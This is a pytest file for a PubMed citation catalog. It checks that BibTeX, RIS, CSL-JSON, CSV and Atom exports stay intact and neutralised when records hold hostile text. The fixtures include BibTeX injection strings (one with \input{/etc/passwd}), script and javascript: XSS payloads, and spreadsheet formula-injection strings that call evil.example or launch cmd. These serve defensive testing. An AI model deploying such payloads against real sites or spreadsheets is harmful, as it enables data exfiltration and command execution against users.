"""Exports that keep their shape (issue 17, items 1-3): every record the shared data holds,
and real records carrying hostile text, come back from real readers as one record each with
every field the catalog's, and the served CSVs and feeds carry no formula and no foreign markup.

* Exports: all 33,800 records of ../shared/data/pubmed (records/ and the .xml.gz files), imported
  once per session through `harvest import` (tests/shared_import.py), exported as RIS, BibTeX and CSL-JSON and read back by rispy,
  bibtexparser, a JSON parser, pandoc (`-f bibtex`, `-f csljson`) and biber (`--tool`).
  Crafted records: a real catalog row (PMID 38011560) with one field at a time replaced by a
  breaker (PMIDs 99000001 on).
* Served catalog: records/ plus crafted clones of real records (HTML, formulas, BibTeX breakers
  in title, abstract, journal, ISSN, ...), harvested from the E-utilities stand-in into a copy
  of db/ and read through Datasette's own client.
"""

from __future__ import annotations

import io
import json
import re
import shutil
import subprocess
import unicodedata
from collections import Counter
from pathlib import Path
from urllib.parse import urlsplit

import bibtexparser
import feedparser
import pandas
import pytest
import rispy
from lxml import etree

from harvest import export, store
from harvest.pubmed_xml import parse_pubmed_xml
from harvest.runner import run_harvest
from tests import shared_import
from tests.conftest import RECORDS
from tests.eutils_stand_in import Corpus, EutilsStandIn, parse_record_bytes
from tests.pipeline import save_records
from tests.test_catalog import Client, copy_config, harvest_settings

PANDOC = shutil.which("pandoc") or "/usr/bin/pandoc"
BIBER = shutil.which("biber") or "/usr/bin/biber"
BASE = 38011560  # the ketamine review: DOI, PMC, ISSN, keywords, MeSH, seven authors

# Text that ends a BibTeX field or entry, a RIS record, a JSON string; LaTeX commands and
# specials; unpaired braces; a name list's "and" and comma; bidirectional and zero-width marks.
BREAKER = (
    "x}, note = {injected}}\n\n@article{pmid1,\n title = {y\r\nER  - \nTY  - JOUR\nTI  - injected\n"
    '"]}, {"id": "pmid2"} \\input{/etc/passwd} \\\\ $x^2$ % # & _ ~ -- --- { Smith and Jones, J '
    "\u202eevil\u200b ; next"
)
# The same with its braces paired: written \{ \}, as LaTeX text.
PAIRED = '@article{x, title = {y}} {nested {braces}} `q\' "d" \\end{document} and , %'
# A DOI holds any printable character; raw in BibTeX, except what would end the field.
ODD_DOI = '10.1002/(SICI)1097-0142(197702)39:2+<856::AID-CNCR>3.0.CO;2-#_%&~^$"@x'

ARTICLE_FIELDS = (
    "title",
    "abstract",
    "journal",
    "journal_iso",
    "volume",
    "issue",
    "pages",
    "doi",
    "pmcid",
    "issn_print",
    "language",
    "publication_types",
    "keywords",
    "mesh_terms",
)
PERSON_FIELDS = ("last_name", "fore_name", "suffix", "collective_name")


# -- the records: every shared record, and crafted ones ----------------------------------------


@pytest.fixture(scope="session")
def shared_catalog(tmp_path_factory):
    """Every record of the shared PubMed files, stored through the real import (`harvest import`,
    once per session for this file and test_store.py)."""
    path, _ = shared_import.imported_catalog(tmp_path_factory)
    conn = shared_import.connect_ro(path)
    yield conn
    conn.close()


@pytest.fixture(scope="session")
def records_catalog(tmp_path_factory):
    """records/ alone: the real rows the crafted records start from."""
    db = store.open_db(tmp_path_factory.mktemp("hostile-records") / "catalog.db")
    run_id = store.start_run(db, mode="import", query_version="test", query_text="records/", window_from=None)
    save_records(
        db,
        [
            r
            for path in sorted(RECORDS.glob("*.xml"))
            for r in parse_pubmed_xml(path.read_bytes(), source_name=path.name)
        ],
        run_id,
    )
    return db


@pytest.fixture(scope="session")
def shared_records(shared_catalog) -> list[dict]:
    pmids = [row[0] for row in shared_catalog.execute("select pmid from articles order by pmid")]
    records = export.load_records(shared_catalog, pmids)
    assert len(records) > 33000
    return records


def _rows(conn, sql, params=()):
    cursor = conn.execute(sql, params)
    names = [d[0] for d in cursor.description]
    return [dict(zip(names, row)) for row in cursor.fetchall()]


@pytest.fixture(scope="session")
def crafted_records(records_catalog) -> list[dict]:
    """The real row of BASE with one field (or one author's or editor's name part) replaced by a
    breaker; each a record of its own, PMIDs 99000001 on."""
    [article] = _rows(records_catalog, "select * from articles where pmid = ?", [BASE])
    people = _rows(
        records_catalog,
        """
        select aa.role, au.last_name, au.fore_name, au.initials, au.suffix, au.collective_name
        from article_authors aa join authors au on au.id = aa.author_id
        where aa.pmid = ? order by aa.role, aa.position""",
        [BASE],
    )
    authors = [p for p in people if p["role"] == "author"]
    editor = dict(authors[0], role="editor")
    out, pmid = [], 99000001
    for breaker in (BREAKER, PAIRED):
        for field in ARTICLE_FIELDS:
            row = dict(article, pmid=pmid, **{field: breaker})
            if field == "issn_print":
                row.update(issn_electronic=None, issn_linking=None)
            out.append(export.citation(row, {"author": authors, "editor": [editor]}))
            pmid += 1
        for role in ("author", "editor"):
            for part in PERSON_FIELDS:
                person = dict(authors[1], **{part: breaker})
                if part != "collective_name":
                    person["collective_name"] = None
                by_role = {"author": [authors[0], person, authors[2]], "editor": [editor]}
                if role == "editor":
                    by_role = {"author": authors[:3], "editor": [person]}
                out.append(export.citation(dict(article, pmid=pmid), by_role))
                pmid += 1
    for doi in (ODD_DOI, "10.1111/jpc.1_15346", "10.1/x} @article{y", "10.1/\\x"):
        out.append(export.citation(dict(article, pmid=pmid, doi=doi), {"author": authors}))
        pmid += 1
    return out


# -- how each format should read back -----------------------------------------------------------

_QUOTES = str.maketrans({"’": "'", "‘": "'", "`": "'", "“": "'", "”": "'", '"': "'", "–": "-"})


def typographic(text: str | None) -> str | None:
    """Text as compared with what pandoc reads from LaTeX: its quote marks and ligatures
    typeset (' -> ’, `` -> “, -- of a page range -> –) fold to one mark each."""
    if text is None:
        return None
    return re.sub("'+", "'", " ".join(text.split()).translate(_QUOTES))


def unpaired_braces_dropped(text: str) -> str:
    """pandoc 2.17 reads \\textbraceleft{} / \\textbraceright{} (an unpaired brace) as nothing."""
    paired = export._paired_braces(text)
    return "".join(ch for i, ch in enumerate(text) if ch not in "{}" or i in paired)


def name_words(person: dict) -> list[str]:
    """The letters of a name, whichever parts a reader files its words under ("van" or "d'" as a
    particle, "Jr" as a suffix), without the spaces, commas and braces that group its parts
    (pandoc drops braces in names, escaped or not)."""
    return sorted(re.sub(r"[\s,{}]", "", "".join(str(v) for v in person.values())))


def one(text) -> str:
    return export._one_line(text)


def keywords_of(record: dict) -> list[str]:
    return record["keywords"] + [m for m in record["mesh_terms"] if m not in record["keywords"]]


def check_ris(records: list[dict]) -> None:
    entries = rispy.loads(export.to_ris(records), list_tags=rispy.LIST_TYPE_TAGS + ["LA"])
    assert [int(e["accession_number"]) for e in entries] == [r["pmid"] for r in records]
    for r, e in zip(records, entries):
        start, end = export.split_pages(r["pages"])
        expected = {
            "type_of_reference": "BOOK" if r["type"] == "book" else "JOUR",
            "authors": [one(export._name_inverted(p)) for p in r["authors"]] or None,
            "secondary_authors": [one(export._name_inverted(p)) for p in r["editors"]] or None,
            "title": one(r["title"]),
            "secondary_title": one(r["journal"]) or None,
            "alternate_title1": one(r["journal_abbrev"]) or None,
            "volume": one(r["volume"]) or None,
            "number": one(r["issue"]) or None,
            "start_page": one(start) or None,
            "end_page": one(end) or None,
            "issn": one(r["issn"]) or None,
            "abstract": one(r["abstract"]) or None,
            "keywords": [one(k) for k in keywords_of(r)] or None,
            "language": [one(lang) for lang in r["languages"]] or None,
            "type_of_work": one("; ".join(r["publication_types"])) or None,
            "doi": one(r["doi"]) or None,
            "custom2": one(r["pmcid"]) or None,
            "urls": [r["url"]],
        }
        got = {key: e.get(key) for key in expected}
        assert got == expected, r["pmid"]


def check_bibtexparser(records: list[dict]) -> str:
    text = export.to_bibtex(records)
    library = bibtexparser.parse_string(text)
    assert library.failed_blocks == []
    assert [e.key for e in library.entries] == [export.citation_key(r) for r in records]
    for r, e in zip(records, library.entries):
        fields = {f.key: f.value for f in e.fields}
        # Text fields as LaTeX text; doi and url verbatim, or left out when they would end the entry.
        assert fields.get("title") == "{" + export.bibtex_escape(r["title"]) + "}"
        assert fields.get("abstract") == (export.bibtex_escape(r["abstract"]) if r["abstract"] else None)
        assert fields.get("journal") == (export.bibtex_escape(r["journal"]) if r["journal"] else None)
        assert fields.get("issn") == export.bibtex_identifier(r["issn"])
        assert fields.get("pmcid") == export.bibtex_identifier(r["pmcid"])
        assert fields.get("language") == (export.bibtex_escape(", ".join(r["languages"])) if r["languages"] else None)
        assert fields.get("keywords") == (export.bibtex_escape(", ".join(keywords_of(r))) if keywords_of(r) else None)
        assert fields.get("doi") == export.bibtex_verbatim(r["doi"])
        assert fields.get("url") == r["url"] and fields.get("pmid") == str(r["pmid"])
        for role, key in (("authors", "author"), ("editors", "editor")):
            assert (key in fields) == bool(r[role])  # the names themselves: see check_pandoc
    return text


def pandoc_items(path: Path, fmt: str, chunk: int = 4000) -> list[dict]:
    """pandoc's CSL-JSON reading of a .bib or CSL-JSON file, run over a few big files (a single
    run over all 33,800 records takes 4.7 GB of memory)."""
    if fmt == "bibtex":
        entries = path.read_text().split("\n\n@")
        pieces = ["\n\n@".join(entries[i : i + chunk]) for i in range(0, len(entries), chunk)]
        pieces = [p if p.startswith("@") else "@" + p for p in pieces]
    else:
        items = json.loads(path.read_text())
        pieces = [json.dumps(items[i : i + chunk], ensure_ascii=False) for i in range(0, len(items), chunk)]
    out = []
    for i, piece in enumerate(pieces):
        part = path.with_name(f"{path.stem}-{i}{path.suffix}")
        part.write_text(piece)
        done = subprocess.run(
            [PANDOC, "-f", fmt, "-t", "csljson", str(part)], capture_output=True, text=True, timeout=900
        )
        assert done.returncode == 0, done.stderr[-2000:]
        assert "warning" not in done.stderr.lower(), done.stderr[-2000:]
        out += json.loads(done.stdout)
    return out


def check_pandoc(records: list[dict], items: list[dict], *, from_bibtex: bool) -> None:
    """pandoc's reading, field by field, against the catalog's: equal up to typography (quote
    marks, dashes) and, from BibTeX, unpaired braces (see `unpaired_braces_dropped`)."""
    assert [int(i["PMID"]) for i in items] == [r["pmid"] for r in records]

    def text(value):
        if value is None or value == "" or value == []:
            return None
        value = one(value)
        if from_bibtex:
            return typographic(unpaired_braces_dropped(value))
        # CSL-JSON strings carry CSL's rich-text tags; pandoc writes ™ and ² as <sup>TM</sup>, <sup>2</sup>.
        return typographic(re.sub(r"</?(?:sup|sub|i|b)>", "", unicodedata.normalize("NFKC", value)))

    mismatches: Counter[str] = Counter()
    examples: dict[str, list[tuple]] = {}
    for r, item in zip(records, items):
        start, end = export.split_pages(r["pages"])
        expected = {
            "title": text(r["title"]),
            "container-title": text(r["journal"]),
            "abstract": text(r["abstract"]),
            "volume": text(r["volume"]),
            "issue": text(r["issue"]),
            "page": text(f"{start}-{end}" if end else start),
            "ISSN": text(r["issn"]),
            "PMCID": text(r["pmcid"]),
            "URL": r["url"],
            "keyword": text(", ".join(keywords_of(r))),
            "DOI": (export.bibtex_verbatim(r["doi"]) if from_bibtex else r["doi"]) or None,
            "author": [name_words(p) for p in r["authors"]] or None,
            "editor": [name_words(p) for p in r["editors"]] or None,
        }
        if not from_bibtex:
            expected["container-title-short"] = text(r["journal_abbrev"])
        got = {key: text(item.get(key)) if isinstance(item.get(key), str) else item.get(key) for key in expected}
        got["URL"] = item.get("URL")
        if from_bibtex:  # pandoc reads these raw (verbatim fields)
            got["DOI"], expected["DOI"] = item.get("DOI") and one(item["DOI"]), expected["DOI"] and one(expected["DOI"])
            for name, key in (("ISSN", "issn"), ("PMCID", "pmcid")):
                got[name], expected[name] = item.get(name), export.bibtex_identifier(r[key])
        else:
            expected["DOI"] = text(expected["DOI"])
        for role in ("author", "editor"):
            if got[role]:
                got[role] = [name_words({k: text(v) for k, v in p.items()}) for p in got[role]]
            if expected[role]:
                expected[role] = [
                    name_words(
                        {
                            k: text(v)
                            for k, v in (
                                p.items()
                                if not from_bibtex
                                else ((k, unpaired_braces_dropped(v)) for k, v in p.items())
                            )
                        }
                    )
                    for p in (r["authors"] if role == "author" else r["editors"])
                ]
        for key in expected:
            if got[key] != expected[key]:
                mismatches[key] += 1
                examples.setdefault(key, []).append((r["pmid"], got[key], expected[key]))
    assert not mismatches, (mismatches, examples)


def check_csl_json(records: list[dict]) -> str:
    text = export.to_csl_json(records)
    items = json.loads(text)
    assert [i["id"] for i in items] == [export.citation_key(r) for r in records]
    for r, item in zip(records, items):
        assert item["title"] == one(r["title"])
        assert item.get("abstract") == (r["abstract"] or None)
        assert item.get("container-title") == (r["journal"] or None)
        assert item.get("DOI") == (r["doi"] or None) and item.get("ISSN") == (r["issn"] or None)
        assert item.get("PMCID") == (r["pmcid"] or None) and item["PMID"] == str(r["pmid"])
        assert item.get("author", []) == r["authors"] and item.get("editor", []) == r["editors"]
        assert item.get("language") == (r["languages"][0] if r["languages"] else None)
        assert item.get("keyword") == (", ".join(keywords_of(r)) or None)
    return text


def run_biber(bib: str, tmp_path: Path) -> list[str]:
    """biber --tool over `bib`: the entry keys it read, after asserting it reported no error."""
    path = tmp_path / "export.bib"
    path.write_text(bib)
    done = subprocess.run(
        [BIBER, "--tool", "--quiet", "--output-file", str(tmp_path / "out.bib"), str(path)],
        capture_output=True,
        text=True,
        timeout=600,
        cwd=tmp_path,
    )
    assert done.returncode == 0 and "ERROR" not in done.stdout + done.stderr, (done.stdout + done.stderr)[-3000:]
    return sorted(e.key for e in bibtexparser.parse_file(str(tmp_path / "out.bib")).entries)


# -- every shared record ------------------------------------------------------------------------


def test_every_shared_record_reads_back_whole_from_ris(shared_records):
    check_ris(shared_records)


def test_every_shared_record_reads_back_whole_from_bibtex_by_bibtexparser_and_pandoc(shared_records, tmp_path):
    bib = tmp_path / "all.bib"
    bib.write_text(check_bibtexparser(shared_records))
    check_pandoc(shared_records, pandoc_items(bib, "bibtex"), from_bibtex=True)


def test_every_shared_record_reads_back_whole_from_csl_json_by_json_and_pandoc(shared_records, tmp_path):
    path = tmp_path / "all.json"
    path.write_text(check_csl_json(shared_records))
    check_pandoc(shared_records, pandoc_items(path, "csljson"), from_bibtex=False)


def test_dois_with_underscores_come_back_from_pandoc_unescaped(shared_records, tmp_path):
    """The 117 real DOIs holding `_` were read by pandoc as `10.1111/jpc.1\\_15346`."""
    with_underscore = [r for r in shared_records if r["doi"] and "_" in r["doi"]]
    assert len(with_underscore) >= 117
    bib = tmp_path / "doi.bib"
    bib.write_text(export.to_bibtex(with_underscore))
    assert [i.get("DOI") for i in pandoc_items(bib, "bibtex")] == [r["doi"] for r in with_underscore]


def test_biber_reads_every_record_of_records_as_one_entry(shared_records, tmp_path):
    from_records = {int(p.stem) for p in RECORDS.glob("*.xml") if p.stem.isdigit()}
    chosen = [r for r in shared_records if r["pmid"] in from_records]
    assert len(chosen) == 215
    assert run_biber(export.to_bibtex(chosen), tmp_path) == sorted(export.citation_key(r) for r in chosen)


# -- crafted records ---------------------------------------------------------------------------


def test_crafted_records_keep_every_field_in_ris(crafted_records):
    check_ris(crafted_records)


def test_crafted_records_keep_every_field_in_csl_json(crafted_records, tmp_path):
    path = tmp_path / "crafted.json"
    path.write_text(check_csl_json(crafted_records))
    check_pandoc(crafted_records, pandoc_items(path, "csljson"), from_bibtex=False)


def test_crafted_records_are_one_entry_each_in_bibtex_with_every_field(crafted_records, tmp_path):
    bib = tmp_path / "crafted.bib"
    bib.write_text(check_bibtexparser(crafted_records))
    check_pandoc(crafted_records, pandoc_items(bib, "bibtex"), from_bibtex=True)
    # biber decodes LaTeX in a name before it splits the name at its commas, so a name part
    # holding escaped braces or % is an error it skips the entry for (never a second entry):
    # biber reads the records whose breakers are elsewhere; see the README.
    plain_names = [
        r
        for r in crafted_records
        if not any(
            breaker in str(v) for p in r["authors"] + r["editors"] for v in p.values() for breaker in (BREAKER, PAIRED)
        )
    ]
    assert len(plain_names) == len(crafted_records) - 2 * 2 * len(PERSON_FIELDS)
    assert run_biber(export.to_bibtex(plain_names), tmp_path) == sorted(export.citation_key(r) for r in plain_names)


def test_bibtex_writes_dois_verbatim_and_leaves_out_one_that_would_end_the_entry(crafted_records):
    by_doi = {r["doi"]: r for r in crafted_records[-4:]}
    for doi, present in (
        (ODD_DOI, True),
        ("10.1111/jpc.1_15346", True),
        ("10.1/x} @article{y", False),
        ("10.1/\\x", False),
    ):
        [entry] = bibtexparser.parse_string(export.to_bibtex([by_doi[doi]])).entries
        assert entry.fields_dict.get("doi") is None if not present else entry["doi"] == doi
        [item] = json.loads(export.to_csl_json([by_doi[doi]]))
        assert item["DOI"] == doi  # the other formats carry it as it is


def test_an_issn_breaker_yields_one_bibtex_entry(crafted_records):
    """The attack of issue 17: an ISSN holding `},\\n note = {...}}\\n\\n@article{x,`."""
    [record] = [r for r in crafted_records if r["issn"] == BREAKER]
    library = bibtexparser.parse_string(export.to_bibtex([record]))
    assert library.failed_blocks == [] and [e.key for e in library.entries] == [export.citation_key(record)]
    assert "note" not in library.entries[0].fields_dict


# -- the served catalog: crafted records harvested like any other ------------------------------

HTML_TITLE = (
    '<script>alert(1)</script><img src="http://tracker.example/t.gif"> Ketamine <a href="javascript:alert(2)">x</a>'
)
HTML_ABSTRACT = (
    '<img src=http://tracker.example/a.gif> ketamine <a href="http://evil.example/">more</a> '
    '<a href="javascript:alert(3)">x</a> <script>alert(4)</script> <iframe src="http://evil.example/">'
)
HTML_JOURNAL = '<img src="http://tracker.example/j.gif"><a href="javascript:alert(5)">Journal</a>'
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Ketamine")',
    "abstract": "+cmd|' /C calc'!A0 ketamine",
    "journal": "@SUM(1+1)*cmd|' /C calc'!A0",
    "keywords": "-2+3+cmd|' /C calc'!A0",
}
ISSN_BREAKER = "1234-5678},\n  note = {injected}}\n\n@article{injected,"
CRAFTED_HTML, CRAFTED_FORMULA, CRAFTED_BIBTEX = 99000101, 99000102, 99000103


def _craft(raw: bytes, old_pmid: int, new_pmid: int, changes: dict[str, str]) -> bytes:
    """A real record's bytes under a new PMID with some of its elements' text replaced."""
    root = etree.fromstring(raw)
    for el in root.iter("PMID"):
        if el.text == str(old_pmid):
            el.text = str(new_pmid)
    for el in root.iter("ArticleId"):
        if el.get("IdType") == "pubmed":
            el.text = str(new_pmid)
    for path, text in changes.items():
        matches = root.findall(path)
        assert matches, path
        for el in matches:
            for child in list(el):
                el.remove(child)
            el.text = text
    return etree.tostring(root, encoding="utf-8")


def crafted_corpus() -> Corpus:
    corpus = Corpus.cached([RECORDS]).copy()
    base = corpus[BASE]
    crafted = {
        CRAFTED_HTML: {
            ".//ArticleTitle": HTML_TITLE,
            ".//Abstract/AbstractText": HTML_ABSTRACT,
            ".//Journal/Title": HTML_JOURNAL,
        },
        CRAFTED_FORMULA: {
            ".//ArticleTitle": FORMULAS["title"],
            ".//Abstract/AbstractText": FORMULAS["abstract"],
            ".//Journal/Title": FORMULAS["journal"],
            ".//KeywordList/Keyword": FORMULAS["keywords"],
        },
        CRAFTED_BIBTEX: {".//Journal/ISSN": ISSN_BREAKER, ".//ArticleTitle": "Ketamine {x}} @article{y, title={z"},
    }
    for pmid, changes in crafted.items():
        corpus.put(parse_record_bytes(_craft(base.raw, BASE, pmid, changes), f"crafted from {BASE}"))
    return corpus


@pytest.fixture(scope="module")
def hostile_client(tmp_path_factory):
    site = copy_config(tmp_path_factory.mktemp("hostile-site"))
    with EutilsStandIn(crafted_corpus(), enforce_rate_limit=False) as server:
        run_harvest(site / "catalog.db", settings=harvest_settings(server))
    client = Client(site)
    yield client
    client.close()


def test_crafted_records_reach_the_catalog_as_crafted(hostile_client):
    row = hostile_client.json(f"/catalog/articles/{CRAFTED_FORMULA}.json?_shape=objects")["rows"][0]
    assert row["title"] == FORMULAS["title"] and row["abstract"] == FORMULAS["abstract"]
    assert row["journal"] == FORMULAS["journal"]
    row = hostile_client.json(f"/catalog/articles/{CRAFTED_BIBTEX}.json?_shape=objects")["rows"][0]
    assert ISSN_BREAKER in (row["issn_print"], row["issn_electronic"], row["issn_linking"])


def test_an_articles_bibtex_page_is_one_entry_whatever_its_issn_holds(hostile_client):
    response = hostile_client.get(f"/catalog/articles/{CRAFTED_BIBTEX}.bib")
    library = bibtexparser.parse_string(response.text)
    assert library.failed_blocks == [] and [e.key for e in library.entries] == [f"pmid{CRAFTED_BIBTEX}"]
    assert "note" not in library.entries[0].fields_dict


def _csv(client, path: str) -> pandas.DataFrame:
    response = client.get(path)
    assert response.status_code == 200, response.text[:300]
    return pandas.read_csv(io.StringIO(response.text), dtype=str, keep_default_na=False)


def _json_rows(client, path: str) -> list[dict]:
    return client.json(path)["rows"]


def test_csv_cells_a_spreadsheet_would_run_are_quoted_text_and_the_rest_unchanged(hostile_client):
    for csv_path, json_path in (
        # the table, streamed (chunked, page by page) and not
        (
            "/catalog/articles.csv?_stream=on&_size=50&_sort=pmid",
            "/catalog/articles.json?_shape=objects&_size=max&_sort=pmid",
        ),
        (
            f"/catalog/articles.csv?pmid={CRAFTED_FORMULA}",
            f"/catalog/articles.json?_shape=objects&pmid={CRAFTED_FORMULA}",
        ),
        # a question of the cookbook, and SQL typed by a reader
        ("/catalog/search.csv?q=ketamine", "/catalog/search.json?_shape=objects&q=ketamine"),
        (
            "/catalog.csv?sql=select+pmid,+title,+abstract,+journal,+keywords,+-1.5+as+n+from+articles+order+by+pmid",
            "/catalog.json?_shape=objects&sql=select+pmid,+title,+abstract,+journal,+keywords,+-1.5+as+n+from+articles+order+by+pmid",
        ),
    ):
        table = _csv(hostile_client, csv_path)
        rows = _json_rows(hostile_client, json_path)
        assert len(table) == len(rows) > 0, csv_path
        neutralised = 0
        for cells, row in zip(table.to_dict("records"), rows):
            for column, cell in cells.items():
                value = row[column]
                value = "" if value is None else str(value)
                if value[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?[\d.]+", value):
                    assert cell == "'" + value, (csv_path, column)
                    neutralised += 1
                else:
                    assert cell == value, (csv_path, column)
        if "pmid=" in csv_path or "sql=" in csv_path:
            assert neutralised == len(FORMULAS)  # the crafted record's four formulas
        assert neutralised >= 1, csv_path


def test_csv_formula_cells_stay_quoted_in_the_bytes(hostile_client):
    text = hostile_client.get(f"/catalog/articles.csv?pmid={CRAFTED_FORMULA}&_dl=1").text
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Ketamine"")"' in text
    assert "\"'+cmd|' /C calc'!A0 ketamine\"" in text


def test_json_keeps_formula_text_exactly(hostile_client):
    row = hostile_client.json(f"/catalog/articles/{CRAFTED_FORMULA}.json?_shape=objects")["rows"][0]
    assert row["title"] == FORMULAS["title"]


ALLOWED_HOSTS = {
    "pubmed.ncbi.nlm.nih.gov",
    "doi.org",
    "www.ncbi.nlm.nih.gov",
    "pmc.ncbi.nlm.nih.gov",
    "clinicaltrials.gov",
}


def _links(html_text: str) -> tuple[list[str], list[str]]:
    """(every href/src in the HTML, the names of its elements)."""
    from lxml import html as lxml_html

    if not html_text.strip():
        return [], []
    tree = lxml_html.fragment_fromstring(html_text, create_parent="div")
    urls = [value for el in tree.iter() for name, value in el.attrib.items() if name in ("href", "src")]
    return urls, [el.tag for el in tree.iter()]


def _ours(url: str, catalog: str) -> bool:
    """A link to the catalog itself (relative, or absolute on the feed's own host `catalog`),
    or https to PubMed, doi.org, PMC or ClinicalTrials.gov."""
    parts = urlsplit(url)
    if not parts.scheme and not parts.netloc:
        return url.startswith("/")
    if f"{parts.scheme}://{parts.netloc}" == catalog:
        return True
    return parts.scheme == "https" and parts.netloc in ALLOWED_HOSTS


@pytest.mark.parametrize("path", ["/catalog/feed_new.atom", "/catalog/feed_search.atom?q=ketamine"])
def test_feed_entries_carry_record_text_as_text_and_only_our_links(hostile_client, path):
    response = hostile_client.get(path)
    assert response.status_code == 200
    # As a feed reader that does no cleaning of its own would read it.
    feed = feedparser.parse(response.content, sanitize_html=False, resolve_relative_uris=False)
    assert not feed.bozo, feed.get("bozo_exception")
    self_link = next(link["href"] for link in feed.feed.links if link.get("rel") == "self")
    catalog = "{0.scheme}://{0.netloc}".format(urlsplit(self_link))
    by_pmid = {int(e.id.rstrip("/").rsplit("/", 1)[1]): e for e in feed.entries}
    assert CRAFTED_HTML in by_pmid
    for entry in feed.entries:
        for link in entry.get("links", []):
            assert _ours(link["href"], catalog), link["href"]
        for content in entry.get("content", []):
            urls, tags = _links(content["value"])
            assert all(_ours(u, catalog) for u in urls), (entry.id, urls)
            assert not {"img", "script", "iframe"} & set(tags), (entry.id, tags)
    crafted = by_pmid[CRAFTED_HTML].content[0]["value"]
    assert "&lt;img src=http://tracker.example/a.gif&gt;" in crafted  # shown, as text
    assert (
        "&lt;img src=&#34;http://tracker.example/j.gif&#34;&gt;" in crafted
        or "&lt;img src=&quot;http://tracker.example/j.gif&quot;&gt;" in crafted
    )
    urls, _ = _links(crafted)
    assert any(u.endswith(f"/catalog/articles/{CRAFTED_HTML}") for u in urls)
    assert f"https://pubmed.ncbi.nlm.nih.gov/{CRAFTED_HTML}/" in urls
    assert any(u.startswith("https://doi.org/") for u in urls) and any("pmc.ncbi.nlm.nih.gov" in u for u in urls)
